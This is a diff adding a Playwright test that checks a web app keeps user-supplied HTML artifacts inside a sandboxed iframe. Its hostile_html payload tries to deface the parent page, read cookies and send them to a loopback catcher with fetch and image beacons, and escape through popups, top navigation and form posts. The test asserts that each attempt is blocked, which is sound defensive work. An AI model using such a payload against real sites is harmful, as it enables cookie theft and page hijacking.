@@ -2,11 +2,15 @@
 
 from __future__ import annotations
 
-from typing import Any
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any, ClassVar
 
 import pytest
 from playwright.sync_api import Page, expect
 
+from tests.servers import ServerProcess
 from tests.ui.seed import Seed, unique
 
 pytestmark = pytest.mark.browser
@@ -139,3 +143,94 @@ def test_a_chart_never_fetches_a_url(page: Page, seed: Seed, problems: list[str]
     ]
     assert not [u for u in requested if "example.invalid" in u]
     problems[:] = [p for p in problems if "inline data only" not in p]  # Vega logs the refusal
+
+
+# -- HTML artifacts ---------------------------------------------------------------------
+
+
+class _Catcher(BaseHTTPRequestHandler):
+    """A loopback endpoint counting every request that reaches it."""
+
+    hits: ClassVar[list[str]] = []
+
+    def _hit(self) -> None:
+        self.hits.append(f"{self.command} {self.path} cookie={self.headers.get('Cookie')}")
+        self.send_response(200)
+        self.send_header("Content-Type", "text/plain")
+        self.end_headers()
+        self.wfile.write(b"caught")
+
+    do_GET = do_POST = _hit
+
+    def log_message(self, format: str, *args: Any) -> None:
+        pass
+
+
+@pytest.fixture(scope="module")
+def catcher() -> Iterator[str]:
+    server = ThreadingHTTPServer(("127.0.0.1", 0), _Catcher)
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield f"http://127.0.0.1:{server.server_address[1]}"
+    server.shutdown()
+    server.server_close()
+
+
+def hostile_html(to: str) -> str:
+    """Every way out of the frame we know of; each outcome is written into the frame's
+    own page, where the test reads it (a script that ran proves scripts do run)."""
+    return f"""<!doctype html><html><body><h1>report</h1><div id="log"></div>
+<script>
+function note(name, value) {{
+  var p = document.createElement("p"); p.id = name; p.textContent = name + ": " + value;
+  document.getElementById("log").appendChild(p);
+}}
+note("ran", "yes");
+try {{ parent.document.body.innerHTML = "PWNED"; note("parent", "reached"); }}
+catch (e) {{ note("parent", "blocked " + e.name); }}
+var cookie;
+try {{ cookie = document.cookie; note("cookie", "read [" + cookie + "]"); }}
+catch (e) {{ cookie = ""; note("cookie", "blocked " + e.name); }}
+try {{ localStorage.setItem("x", "1"); note("storage", "reached"); }}
+catch (e) {{ note("storage", "blocked " + e.name); }}
+fetch("{to}/fetch?c=" + encodeURIComponent(cookie))
+  .then(function () {{ note("fetch", "reached"); }}, function () {{ note("fetch", "blocked"); }});
+new Image().src = "{to}/img?c=" + encodeURIComponent(cookie);
+var w = null;
+try {{ w = window.open("{to}/open"); }} catch (e) {{}}
+note("open", w ? "opened" : "blocked");
+try {{ top.location = "{to}/top"; }} catch (e) {{ note("top", "blocked " + e.name); }}
+</script>
+<form id="f" action="{to}/form" method="post" target="_top"><input name="x" value="1"></form>
+<script>try {{ document.getElementById("f").submit(); }} catch (e) {{}}</script>
+</body></html>"""
+
+
+def test_hostile_html_stays_in_its_frame(
+    page: Page, seed: Seed, catcher: str, problems: list[str], ui_server: ServerProcess
+) -> None:
+    _Catcher.hits.clear()
+    # A cookie a page script could read, to show the frame cannot (the session cookie is
+    # HttpOnly as well).
+    page.context.add_cookies([{"name": "visible", "value": "secret", "url": ui_server.url}])
+    created = seed.artifact(key=unique("hostile-html"), type="html", data=hostile_html(catcher))
+    page.goto(f"/artifacts/{created['id']}")
+    frame = page.frame_locator(f"iframe[data-html-frame='{created['id']}']")
+    expect(frame.locator("#ran")).to_have_text("ran: yes")
+    expect(frame.locator("#parent")).to_contain_text("blocked")
+    expect(frame.locator("#cookie")).to_contain_text("blocked")
+    expect(frame.locator("#storage")).to_contain_text("blocked")
+    expect(frame.locator("#open")).to_have_text("open: blocked")
+    expect(frame.locator("#fetch")).to_have_text("fetch: blocked")
+    page.wait_for_timeout(500)  # time for any navigation, popup or request to happen
+    assert page.url.endswith(f"/artifacts/{created['id']}")
+    expect(page.locator("h1.key-title")).to_be_visible()  # the parent page is intact
+    assert "PWNED" not in page.locator("body").inner_text()
+    assert len(page.context.pages) == 1
+    assert _Catcher.hits == []
+    iframe = page.locator("iframe.html-frame")
+    assert iframe.get_attribute("sandbox") == "allow-scripts"
+    # The browser logs each refused attempt; nothing else may have gone wrong.
+    refusals = ("Content Security Policy", "sandboxed", "allow-popups", "allow-forms")
+    assert problems and all(any(r in p for r in refusals) for p in problems), problems
+    problems.clear()
